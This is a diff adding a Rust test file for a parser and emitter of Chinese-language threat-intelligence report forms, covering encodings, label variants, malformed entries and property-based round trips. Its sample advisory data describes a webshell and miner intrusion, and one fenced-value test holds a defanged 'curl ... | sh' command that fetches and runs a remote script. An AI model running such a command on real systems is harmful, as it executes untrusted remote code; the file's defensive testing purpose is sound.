@@ -1,0 +1,627 @@
+//! The intelligence TXT form: the emitter's exact layout, one example in the encodings
+//! analysts' editors write, hand-written variants (English labels, ASCII colons, fences),
+//! what cannot be read (malformed entries, unknown labels, duplicates), and property tests
+//! (generated records come back; no input panics and what was read is written back).
+
+use proptest::prelude::*;
+use tocsin_domain::intel::{ConnectionInput, EndpointInput, IntelField, IntelInput, ScanInfo};
+use tocsin_formats::intel_form::{self, ParseOutcome, Problem, ProblemKind};
+
+fn fixture(name: &str) -> Vec<u8> {
+    let path = format!("{}/tests/data/{name}", env!("CARGO_MANIFEST_DIR"));
+    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
+}
+
+fn s(v: &str) -> String {
+    v.to_owned()
+}
+
+fn endpoint(ip: &str, port: &str, protocol: &str) -> EndpointInput {
+    EndpointInput {
+        ip: s(ip),
+        port: s(port),
+        protocol: s(protocol),
+    }
+}
+
+fn connection(direction: &str, ip: &str, port: &str, protocol: &str) -> ConnectionInput {
+    ConnectionInput {
+        direction: s(direction),
+        ip: s(ip),
+        port: s(port),
+        protocol: s(protocol),
+    }
+}
+
+/// The record of intel-example.txt.
+fn example() -> IntelInput {
+    IntelInput {
+        category: s("INT"),
+        subject: s("某金融機構對外網站遭植入網頁後門"),
+        source: s("TWCERT/CC"),
+        published_at: s("2026-03-02T14:30:00+08:00"),
+        tlp: s("AMBER"),
+        dispatch_id: s("TWCERT-INT-2026-0042"),
+        event_subject: s("網站伺服器遭入侵並植入網頁後門及挖礦程式"),
+        event_discovered_at: s("2026-02-27T09:15:00+08:00"),
+        event_sent_at: s("2026-02-27T11:00:00+08:00"),
+        event_resolved_at: s("2026-03-01T18:00:00+08:00"),
+        content: s(
+            "本中心接獲通報，某金融機構對外網站遭攻擊者利用檔案上傳漏洞植入網頁後門。\n\
+             攻擊者透過後門下載挖礦程式，並與下列中繼站連線：\n\
+             \n    \
+             hxxp://198.51.100[.]7:8080/gate.php\n    \
+             update-check.example[.]net\n\
+             \n\
+             注意：中繼站於 2026-02-28 起改用 443 埠。\n\
+             請各單位檢視防火牆及網頁伺服器紀錄。",
+        ),
+        intel_type: s("入侵攻擊"),
+        publisher: s("台灣電腦網路危機處理暨協調中心"),
+        contact: s("電話：02-2345-6789\n電子郵件：soc@example.org.tw"),
+        impact_level: s("3"),
+        recommendation: s("1. 更新網站上傳元件至最新版本。\n\
+             2. 移除網站目錄中不明的 .jsp 檔案。\n\
+             3. 封鎖下列惡意連線資訊中的位址。"),
+        references: s("https://example.org/advisory/2026-0042"),
+        attachments: s("webshell-sample.zip（解壓縮密碼 infected）"),
+        victim_ip: vec![
+            endpoint("203.0.113.5", "443", "tcp"),
+            endpoint("203.0.113.6", "", ""),
+        ],
+        affected_platforms: s("Windows Server 2019\nApache Tomcat 9.0"),
+        technique: s("利用檔案上傳漏洞植入網頁後門，再下載挖礦程式。"),
+        malicious_connections: vec![
+            connection("destination", "198.51.100.7", "8080", "tcp"),
+            connection("source", "2001:db8::66", "", ""),
+        ],
+        scan_info: ScanInfo {
+            engine: s("ClamAV"),
+            engine_type: s("antivirus"),
+            version: s("1.0.5"),
+            result: s("Win.Trojan.Agent-1234 \"webshell\" (2 files)"),
+        },
+        source_id: String::new(),
+        source_time: String::new(),
+    }
+}
+
+fn assert_clean(name: &str, outcome: &ParseOutcome) {
+    assert_eq!(outcome.problems, vec![], "{name}");
+    assert_eq!(outcome.unknown_lines, vec![], "{name}");
+    assert!(!outcome.lossy, "{name}");
+}
+
+#[test]
+fn the_example_is_exactly_what_emit_writes() {
+    let text = String::from_utf8(fixture("intel-example.txt")).expect("utf-8");
+    assert_eq!(intel_form::emit(&example()), text);
+    let record = example().validate().expect("the example is valid");
+    assert_eq!(intel_form::emit_record(&record), text);
+}
+
+#[test]
+fn the_example_in_every_encoding_parses_to_one_record() {
+    for (name, encoding) in [
+        ("intel-example.txt", "UTF-8"),
+        ("intel-example-big5-crlf.txt", "Big5"),
+        ("intel-example-utf16le-bom-crlf.txt", "UTF-16LE"),
+    ] {
+        let outcome = intel_form::parse_bytes(&fixture(name));
+        assert_eq!(outcome.encoding, Some(encoding), "{name}");
+        assert_clean(name, &outcome);
+        assert_eq!(outcome.input, example(), "{name}");
+    }
+}
+
+#[test]
+fn hand_written_variants_read_the_same_record() {
+    for name in ["intel-english.txt", "intel-ascii-colons.txt"] {
+        let outcome = intel_form::parse_bytes(&fixture(name));
+        assert_clean(name, &outcome);
+        assert_eq!(outcome.encoding, Some("UTF-8"), "{name}");
+        // Written with the template's indentation, so even the texts are the same.
+        assert_eq!(outcome.input, example(), "{name}");
+    }
+}
+
+#[test]
+fn fenced_values_are_kept_verbatim() {
+    let outcome = intel_form::parse_bytes(&fixture("intel-fenced.txt"));
+    assert_clean("fenced", &outcome);
+    assert_eq!(
+        outcome.input.content,
+        "下列為攻擊者植入的程式碼片段，請勿執行：\n\
+         \n    \
+         curl -s hxxp://198.51.100[.]9/x.sh | sh\n\
+         情資主旨：這一行在圍欄內，是內容而非欄位"
+    );
+    assert_eq!(outcome.input.subject, "某開源套件遭植入後門");
+    // A longer fence holds lines of three backticks.
+    assert_eq!(
+        outcome.input.recommendation,
+        "以 ``` 標示的段落請照原樣保留：\n```\nnpm uninstall evil-pkg\n```"
+    );
+    assert_eq!(outcome.input.victim_ip, vec![]);
+    let record = outcome.input.validate().expect("valid");
+    // The emitter indents instead; the value comes back the same.
+    let again = intel_form::parse(&intel_form::emit_record(&record));
+    assert_eq!(again.input.validate(), Ok(record));
+}
+
+#[test]
+fn an_unclosed_fence_runs_to_the_end_and_is_named() {
+    let outcome = intel_form::parse("情資主旨：x\n情資內容：```\n第一行\n分享等級：RED\n");
+    assert_eq!(
+        outcome.problems,
+        vec![Problem {
+            field: IntelField::Content,
+            line: 2,
+            kind: ProblemKind::UnclosedFence,
+            text: String::new(),
+        }]
+    );
+    assert_eq!(outcome.input.content, "第一行\n分享等級：RED\n");
+    assert_eq!(outcome.input.tlp, "");
+}
+
+#[test]
+fn malformed_connections_are_named_and_left_out() {
+    let outcome = intel_form::parse_bytes(&fixture("intel-bad-connection.txt"));
+    let problem = |line, kind, text: &str| Problem {
+        field: IntelField::MaliciousConnections,
+        line,
+        kind,
+        text: text.to_owned(),
+    };
+    assert_eq!(
+        outcome.problems,
+        vec![
+            problem(
+                9,
+                ProblemKind::MissingKey {
+                    token: s("outbound")
+                },
+                "198.51.100.8:443 outbound"
+            ),
+            problem(
+                10,
+                ProblemKind::UnterminatedQuote,
+                "direction=source ip=\"203.0.113.9"
+            ),
+            problem(
+                11,
+                ProblemKind::UnknownKey { key: s("color") },
+                "direction=source ip=198.51.100.10 color=red"
+            ),
+            problem(
+                12,
+                ProblemKind::RepeatedKey { key: s("ip") },
+                "direction=source ip=198.51.100.11 ip=198.51.100.12"
+            ),
+        ]
+    );
+    assert_eq!(
+        outcome.problems[0].to_string(),
+        "line 9, 惡意IP連線資訊 (malicious_connections): value \"outbound\" has no key"
+    );
+    assert_eq!(
+        outcome.input.malicious_connections,
+        vec![
+            connection("destination", "198.51.100.7", "8080", "tcp"),
+            connection("source", "2001:db8::66", "", ""),
+        ]
+    );
+    assert_eq!(outcome.unknown_lines, vec![]);
+    assert!(outcome.input.validate().is_ok());
+}
+
+#[test]
+fn unknown_labels_and_stray_lines_are_kept_apart() {
+    let outcome = intel_form::parse_bytes(&fixture("intel-unknown-label.txt"));
+    assert_eq!(
+        outcome.unknown_lines,
+        vec![
+            (4, s("影響範圍：全台分行")),
+            (5, s("  十二個網站")),
+            (10, s("順頌時祺")),
+        ]
+    );
+    assert_eq!(outcome.problems, vec![]);
+    // The greeting before the first field is ignored; the fields around are read.
+    let i = &outcome.input;
+    assert_eq!(i.subject, "網頁置換攻擊");
+    assert_eq!(i.source, "TWCERT/CC");
+    assert_eq!(i.tlp, "WHITE");
+    assert_eq!(i.content, "某網站遭置換。");
+    assert!(i.validate().is_ok());
+}
+
+#[test]
+fn a_field_given_twice_differently_is_a_problem() {
+    let outcome = intel_form::parse_bytes(&fixture("intel-duplicate.txt"));
+    assert_eq!(
+        outcome.problems,
+        vec![Problem {
+            field: IntelField::Subject,
+            line: 9,
+            kind: ProblemKind::Duplicate,
+            text: s("另一個主旨"),
+        }]
+    );
+    // The first value is used; an empty label (the template's) or the same value again is
+    // no duplicate.
+    assert_eq!(outcome.input.subject, "網頁置換攻擊");
+    assert_eq!(outcome.input.tlp, "AMBER");
+    assert_eq!(outcome.unknown_lines, vec![]);
+}
+
+#[test]
+fn duplicate_structured_fields_and_scan_keys() {
+    let outcome = intel_form::parse(
+        "受害IP：192.0.2.1\n受害IP：192.0.2.2\n掃描資訊：engine=A\n  engine=B version=2\n  version=3\n",
+    );
+    assert_eq!(
+        outcome.problems,
+        vec![
+            Problem {
+                field: IntelField::VictimIp,
+                line: 2,
+                kind: ProblemKind::Duplicate,
+                text: s("192.0.2.2"),
+            },
+            Problem {
+                field: IntelField::ScanInfo,
+                line: 4,
+                kind: ProblemKind::RepeatedKey { key: s("engine") },
+                text: s("engine=B version=2"),
+            },
+        ]
+    );
+    assert_eq!(outcome.input.victim_ip, vec![endpoint("192.0.2.1", "", "")]);
+    // The bad line adds nothing; the next one still counts.
+    assert_eq!(
+        outcome.input.scan_info,
+        ScanInfo {
+            engine: s("A"),
+            version: s("3"),
+            ..ScanInfo::default()
+        }
+    );
+}
+
+#[test]
+fn emit_layout() {
+    let template = intel_form::template();
+    let labels: Vec<String> = IntelField::ALL
+        .iter()
+        .map(|f| format!("{}：", f.zh()))
+        .collect();
+    assert_eq!(template.lines().collect::<Vec<_>>(), labels);
+
+    let input = IntelInput {
+        content: s("first\n\n  indented\nlast"),
+        subject: s(" leading space"),
+        contact: s("```"),
+        victim_ip: vec![endpoint("", "", ""), endpoint("a b", "", "x=y")],
+        scan_info: ScanInfo {
+            result: s("two\nlines \\ \"q\""),
+            ..ScanInfo::default()
+        },
+        ..IntelInput::default()
+    };
+    let text = intel_form::emit(&input);
+    for expected in [
+        "情資內容：first\n  \n    indented\n  last\n",
+        "情資主旨：\n   leading space\n",
+        "聯絡資訊：\n  ```\n",
+        "受害IP：\n  ip=\"\"\n  ip=\"a b\" protocol=\"x=y\"\n",
+        "掃描資訊：result=\"two\\nlines \\\\ \\\"q\\\"\"\n",
+    ] {
+        assert!(text.contains(expected), "{expected:?} in\n{text}");
+    }
+    let back = intel_form::parse(&text);
+    assert_eq!(back.input, input);
+    assert_eq!(back.problems, vec![]);
+    assert_eq!(back.unknown_lines, vec![]);
+}
+
+#[test]
+fn label_forms() {
+    for line in [
+        "事件主旨：x",
+        "事件主旨:x",
+        "  事件主旨 ： x",
+        "event_subject: x",
+        "EVENT_SUBJECT：x",
+        "事件主旨 (event_subject)：x",
+        "event_subject（事件主旨）: x",
+        "事件主旨 (選填): x",
+    ] {
+        let outcome = intel_form::parse(line);
+        assert_eq!(outcome.input.event_subject, "x", "{line}");
+        assert_eq!(outcome.unknown_lines, vec![], "{line}");
+    }
+    // `source_id` is not `source` followed by text.
+    let outcome = intel_form::parse("source_id: A-1\nsource: B");
+    assert_eq!(outcome.input.source_id, "A-1");
+    assert_eq!(outcome.input.source, "B");
+    // Not labels: no colon, another word, a URL's colon.
+    let outcome = intel_form::parse("情資主旨：s\n事件主旨 x\nevent_subjects: y\n");
+    assert_eq!(outcome.input.subject, "s\n事件主旨 x");
+    assert_eq!(outcome.unknown_lines, vec![(3, s("event_subjects: y"))]);
+    let outcome = intel_form::parse("情資主旨：s\nhttps://example.org/x\n");
+    assert_eq!(outcome.input.subject, "s\nhttps://example.org/x");
+}
+
+#[test]
+fn continuation_rules() {
+    // Unindented lines continue a value directly; after a blank line only indented ones.
+    let outcome = intel_form::parse(
+        "情資內容：a\nb\n電話：1\n\n  c\n\nd\n情資主旨：s\n\n\n分享等級：\nRED\n",
+    );
+    assert_eq!(outcome.input.content, "a\nb\n電話：1\n\nc");
+    assert_eq!(outcome.unknown_lines, vec![(7, s("d"))]);
+    assert_eq!(outcome.input.subject, "s");
+    assert_eq!(outcome.input.tlp, "RED");
+    // Outside the free texts a label-shaped line is no value.
+    let outcome = intel_form::parse("情資主旨：s\n電話：1\n");
+    assert_eq!(outcome.input.subject, "s");
+    assert_eq!(outcome.unknown_lines, vec![(2, s("電話：1"))]);
+}
+
+#[test]
+fn quoting_in_entries() {
+    let outcome = intel_form::parse(
+        "掃描資訊：engine=\"Microsoft Defender\" version=1.1=beta result=\"C:\\Temp\\x.exe \\\"quoted\\\"\\nsecond\"\n\
+         受害IP：\"192.0.2.9\" port=\"\" protocol=udp\n\
+         惡意IP連線資訊：direction=source ip=192.0.2.1 port=\"80\"x\n",
+    );
+    assert_eq!(
+        outcome.input.scan_info,
+        ScanInfo {
+            engine: s("Microsoft Defender"),
+            engine_type: String::new(),
+            version: s("1.1=beta"),
+            result: s("C:\\Temp\\x.exe \"quoted\"\nsecond"),
+        }
+    );
+    assert_eq!(
+        outcome.input.victim_ip,
+        vec![endpoint("192.0.2.9", "", "udp")]
+    );
+    assert_eq!(
+        outcome.problems.iter().map(|p| &p.kind).collect::<Vec<_>>(),
+        vec![&ProblemKind::StrayQuote]
+    );
+    assert_eq!(outcome.problems[0].line, 3);
+}
+
+// ---------------------------------------------------------------------------------------
+// Properties
+// ---------------------------------------------------------------------------------------
+
+/// A date-time of the format's shape, and one a year later (for 事件解決時間).
+fn times() -> impl Strategy<Value = (String, String)> {
+    (
+        2000i32..2098,
+        1u8..=12,
+        1u8..=28,
+        (0u8..24, 0u8..60, 0u8..60),
+        any::<bool>(),
+        0u8..=13,
+        prop::sample::select(vec![0u8, 30, 45]),
+    )
+        .prop_map(|(y, mo, d, (h, mi, sec), neg, oh, om)| {
+            let sign = if neg { '-' } else { '+' };
+            let at = |y: i32| {
+                format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{sec:02}{sign}{oh:02}:{om:02}")
+            };
+            (at(y), at(y + 1))
+        })
+}
+
+fn time() -> impl Strategy<Value = String> {
+    times().prop_map(|(t, _)| t)
+}
+
+/// One-line text with the characters the syntax cares about.
+fn line() -> impl Strategy<Value = String> {
+    "[A-Za-z0-9資安情報攻擊惡意網站][A-Za-z0-9 資安情報攻擊惡意網站：:=\"\\\\()`\\[\\]\\.-]{0,30}"
+}
+
+/// A line of a free text: plain, indented, blank, or shaped like syntax.
+fn text_line() -> impl Strategy<Value = String> {
+    prop_oneof![
+        4 => line(),
+        1 => line().prop_map(|l| format!("    {l}")),
+        1 => Just(String::new()),
+        1 => Just(s("   ")),
+        1 => Just(s("情資主旨：偽造的欄位")),
+        1 => Just(s("```")),
+        1 => Just(s("Note: not a field")),
+        1 => Just(s("\t縮排 tab")),
+    ]
+}
+
+fn block() -> impl Strategy<Value = String> {
+    prop::collection::vec(text_line(), 1..6).prop_map(|l| l.join("\n"))
+}
+
+fn optional<S: Strategy<Value = String>>(s: S) -> impl Strategy<Value = String> {
+    prop_oneof![Just(String::new()), s]
+}
+
+fn ip() -> impl Strategy<Value = String> {
+    prop_oneof![
+        any::<std::net::Ipv4Addr>().prop_map(|a| a.to_string()),
+        any::<std::net::Ipv6Addr>().prop_map(|a| a.to_string()),
+    ]
+}
+
+fn port() -> impl Strategy<Value = String> {
+    optional(any::<u16>().prop_map(|p| p.to_string()))
+}
+
+fn protocol() -> impl Strategy<Value = String> {
+    prop::sample::select(vec!["", "tcp", "udp", "HTTP", "smb", "dns-over-https"]).prop_map(s)
+}
+
+fn endpoints() -> impl Strategy<Value = Vec<EndpointInput>> {
+    prop::collection::vec(
+        (ip(), port(), protocol()).prop_map(|(ip, port, protocol)| EndpointInput {
+            ip,
+            port,
+            protocol,
+        }),
+        0..4,
+    )
+}
+
+fn connections() -> impl Strategy<Value = Vec<ConnectionInput>> {
+    let direction = prop::sample::select(vec!["source", "destination", "Destination"]);
+    prop::collection::vec(
+        (direction, ip(), port(), protocol()).prop_map(|(d, ip, port, protocol)| ConnectionInput {
+            direction: s(d),
+            ip,
+            port,
+            protocol,
+        }),
+        0..4,
+    )
+}
+
+fn scan_info() -> impl Strategy<Value = ScanInfo> {
+    (
+        optional(line()),
+        optional(line()),
+        optional(line()),
+        optional(block()),
+    )
+        .prop_map(|(engine, engine_type, version, result)| ScanInfo {
+            engine,
+            engine_type,
+            version,
+            result,
+        })
+}
+
+prop_compose! {
+    fn intel_input()(
+        category in prop::sample::select(vec!["ANA", "DEF", "INT", "EWA", "FBI", "fbi"]),
+        tlp in prop::sample::select(vec![
+            "RED", "AMBER", "AMBER+STRICT", "GREEN", "WHITE", "clear", "TLP:amber",
+        ]),
+        (subject, source, dispatch_id, event_subject) in
+            (line(), line(), optional(line()), optional(line())),
+        (published_at, (discovered, resolved), event_sent_at, source_time) in
+            (time(), times(), optional(time()), time()),
+        (has_discovered, has_resolved) in (any::<bool>(), any::<bool>()),
+        content in block(),
+        (intel_type, publisher, impact_level) in
+            (optional(line()), optional(line()), optional((1u8..=4).prop_map(|n| n.to_string()))),
+        (contact, recommendation, references, attachments, affected_platforms, technique) in
+            (optional(block()), optional(block()), optional(block()), optional(block()),
+             optional(block()), optional(block())),
+        victim_ip in endpoints(),
+        malicious_connections in connections(),
+        scan_info in scan_info(),
+        source_id in line(),
+    ) -> IntelInput {
+        let fbi = category.eq_ignore_ascii_case("FBI");
+        IntelInput {
+            category: s(category),
+            subject,
+            source,
+            published_at,
+            tlp: s(tlp),
+            dispatch_id,
+            // ANA has no event.
+            event_subject: if category == "ANA" { String::new() } else { event_subject },
+            event_discovered_at: if has_discovered { discovered } else { String::new() },
+            event_sent_at,
+            event_resolved_at: if has_resolved { resolved } else { String::new() },
+            // Starts with text, so it is never blank.
+            content: format!("內容 {content}"),
+            intel_type,
+            publisher,
+            contact,
+            impact_level,
+            recommendation,
+            references,
+            attachments,
+            victim_ip,
+            affected_platforms,
+            technique,
+            malicious_connections,
+            scan_info,
+            // FBI answers a record: its dispatch id and publication time.
+            source_id: if fbi { source_id } else { String::new() },
+            source_time: if fbi { source_time } else { String::new() },
+        }
+    }
+}
+
+/// Text made of the syntax's pieces, to reach the parser's corners.
+fn noisy_form() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        prop::sample::select(IntelField::ALL.to_vec()).prop_map(|f| format!("{}：", f.zh())),
+        prop::sample::select(IntelField::ALL.to_vec()).prop_map(|f| format!("{}: ", f.key())),
+        Just(s("  ")),
+        Just(s("\t")),
+        Just(s("\n")),
+        Just(s("\r\n")),
+        Just(s("```")),
+        Just(s("````\n")),
+        Just(s("\"")),
+        Just(s("\\")),
+        Just(s("=")),
+        Just(s(" ip=")),
+        Just(s("direction=source ")),
+        Just(s("engine=")),
+        Just(s("電話：")),
+        Just(s("(hint)")),
+        Just(s("\u{feff}")),
+        "[a-z0-9 .:資安]{0,8}",
+    ];
+    prop::collection::vec(piece, 0..40).prop_map(|p| p.concat())
+}
+
+/// What was read is written back and read again unchanged, and validates alike.
+fn assert_round_trip(outcome: &ParseOutcome) -> Result<(), TestCaseError> {
+    let again = intel_form::parse(&intel_form::emit(&outcome.input));
+    prop_assert_eq!(&again.input, &outcome.input);
+    prop_assert_eq!(&again.problems, &vec![]);
+    prop_assert_eq!(&again.unknown_lines, &vec![]);
+    prop_assert_eq!(again.input.validate(), outcome.input.validate());
+    Ok(())
+}
+
+proptest! {
+    #[test]
+    fn generated_records_come_back(input in intel_input()) {
+        let record = input
+            .validate()
+            .map_err(|e| TestCaseError::fail(format!("generated input invalid: {e:?}")))?;
+        let text = intel_form::emit_record(&record);
+        let outcome = intel_form::parse(&text);
+        prop_assert_eq!(&outcome.problems, &vec![]);
+        prop_assert_eq!(&outcome.unknown_lines, &vec![]);
+        prop_assert_eq!(&outcome.input, &record.to_input());
+        prop_assert_eq!(outcome.input.validate(), Ok(record.clone()));
+        // The raw input too, and with Windows line ends.
+        let raw = intel_form::parse(&intel_form::emit(&input).replace('\n', "\r\n"));
+        prop_assert_eq!(&raw.input, &input);
+        prop_assert_eq!(raw.input.validate(), Ok(record));
+    }
+
+    #[test]
+    fn any_text_parses_and_comes_back(text in noisy_form()) {
+        assert_round_trip(&intel_form::parse(&text))?;
+    }
+
+    #[test]
+    fn any_bytes_parse_and_come_back(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
+        assert_round_trip(&intel_form::parse_bytes(&bytes))?;
+    }
+}
